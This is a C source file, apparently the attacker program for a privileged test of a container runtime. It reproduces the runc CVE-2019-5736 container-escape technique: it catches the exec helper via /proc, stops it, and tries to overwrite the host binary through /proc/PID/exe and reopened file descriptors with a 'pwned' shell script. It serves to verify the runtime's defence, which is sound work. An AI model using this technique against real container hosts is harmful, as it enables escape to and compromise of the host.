// The attacker of exe-overwrite.priv.spec.ts, exec variant (runc CVE-2019-5736): the main process of a
// running container, root inside it. It scans /proc of the container's PID namespace for a process
// whose exe still names podkit-init's memfd (the helper of a `podrun exec`, between joining the
// container and its execve), stops it with SIGSTOP and, while it is stopped, tries to open that exe
// for writing and to write through it; it keeps a read-only fd, lets the process go on (SIGCONT), and
// once the process has exec'd its target (the helper's binary no longer running), tries again through
// /proc/self/fd/N, as the original exploit did. Results go to argv[1] (written to a temp file, then
// renamed); then it waits forever, so the container keeps running.
//
// Built static by the test (gcc -static), copied into the busybox rootfs.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char report[8192];
static size_t used;

static void note(const char* fmt, ...) __attribute__((format(printf, 1, 2)));
static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(report + used, sizeof(report) - used, fmt, ap);
  va_end(ap);
  if (n > 0 && used + (size_t)n < sizeof(report)) used += (size_t)n;
}

static int exe_of(int pid, char* buf, size_t len) {
  char p[64];
  snprintf(p, sizeof(p), "/proc/%d/exe", pid);
  ssize_t n = readlink(p, buf, len - 1);
  if (n < 0) return -errno;
  buf[n] = '\0';
  return 0;
}

static int is_helper(int pid) {
  char exe[512];
  return exe_of(pid, exe, sizeof(exe)) == 0 && strstr(exe, "memfd:podkit-init") != NULL;
}

static char state_of(int pid) {
  char p[64], buf[512];
  snprintf(p, sizeof(p), "/proc/%d/stat", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return '?';
  ssize_t n = read(fd, buf, sizeof(buf) - 1);
  close(fd);
  if (n <= 0) return '?';
  buf[n] = '\0';
  char* rp = strrchr(buf, ')');
  return rp != NULL && rp[1] == ' ' ? rp[2] : '?';
}

static double now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

// Opens `path` with `flags`; if that works, writes through it. One line: "<name>: open <ok|ERR> write <ok|ERR|->".
static void try_write(const char* name, const char* path, int flags) {
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) {
    note("%s: open %s write -\n", name, strerrorname_np(errno));
    return;
  }
  ssize_t w = write(fd, "#!/bin/sh\necho pwned\n", 21);
  note("%s: open ok write %s\n", name, w == 21 ? "ok" : w < 0 ? strerrorname_np(errno) : "short");
  close(fd);
}

// Stops `pid` and waits until it is stopped (state T). True when it is then still the helper (a stop
// that lands during its execve takes effect after it, on the exec'd program: no catch, it goes on).
static int stop_helper(int pid) {
  kill(pid, SIGSTOP);
  double deadline = now_ms() + 2000;
  while (state_of(pid) != 'T' && now_ms() < deadline) {
  }
  if (state_of(pid) == 'T' && is_helper(pid)) return 1;
  kill(pid, SIGCONT);
  return 0;
}

// `pid` is stopped and runs podkit-init's memfd.
static void attack(int pid) {
  char exe[512], p[64], self[64] = "";
  snprintf(p, sizeof(p), "/proc/%d/exe", pid);
  exe_of(pid, exe, sizeof(exe));
  note("caught: pid %d exe %s state %c\n", pid, exe, state_of(pid));
  try_write("while-stopped-wronly", p, O_WRONLY);
  try_write("while-stopped-rdwr", p, O_RDWR);
  try_write("while-stopped-trunc", p, O_WRONLY | O_TRUNC);
  int ro = open(p, O_RDONLY | O_CLOEXEC);
  note("while-stopped-rdonly: %s\n", ro >= 0 ? "ok" : strerrorname_np(errno));
  if (ro >= 0) {
    snprintf(self, sizeof(self), "/proc/self/fd/%d", ro);
    try_write("while-stopped-reopen", self, O_WRONLY);
  }
  kill(pid, SIGCONT);
  // Until the helper is gone from that pid (exec'd its target, or exited): then nothing runs the binary.
  double deadline = now_ms() + 10000;
  while (is_helper(pid) && now_ms() < deadline) {
  }
  note("after-exec-helper-running: %s\n", is_helper(pid) ? "yes" : "no");
  if (ro >= 0) {
    try_write("after-exec-reopen-wronly", self, O_WRONLY);
    try_write("after-exec-reopen-trunc", self, O_WRONLY | O_TRUNC);
    try_write("after-exec-reopen-append", self, O_WRONLY | O_APPEND);
    close(ro);
  }
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const int me = getpid();
  unsigned long scans = 0, denied = 0, missed = 0;
  for (;;) {
    DIR* d = opendir("/proc");
    if (d == NULL) return 3;
    struct dirent* e;
    int found = 0;
    while ((e = readdir(d)) != NULL) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == me) continue;
      char exe[512];
      int r = exe_of(pid, exe, sizeof(exe));
      // EACCES: a helper that still holds capabilities this process lacks (not yet dropped).
      if (r == -EACCES) denied++;
      if (r == 0 && strstr(exe, "memfd:podkit-init") != NULL) {
        if (stop_helper(pid)) {
          found = pid;
          break;
        }
        missed++;  // exec'd between the look and the stop: not a catch
      }
    }
    closedir(d);
    scans++;
    if (found) {
      note("scans: %lu denied-looks: %lu missed: %lu\n", scans, denied, missed);
      attack(found);
      break;
    }
  }
  char tmp[4096];
  snprintf(tmp, sizeof(tmp), "%s.tmp", argv[1]);
  int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd >= 0) {
    if (write(fd, report, used) < 0) return 4;
    close(fd);
    rename(tmp, argv[1]);
  }
  for (;;) pause();
}
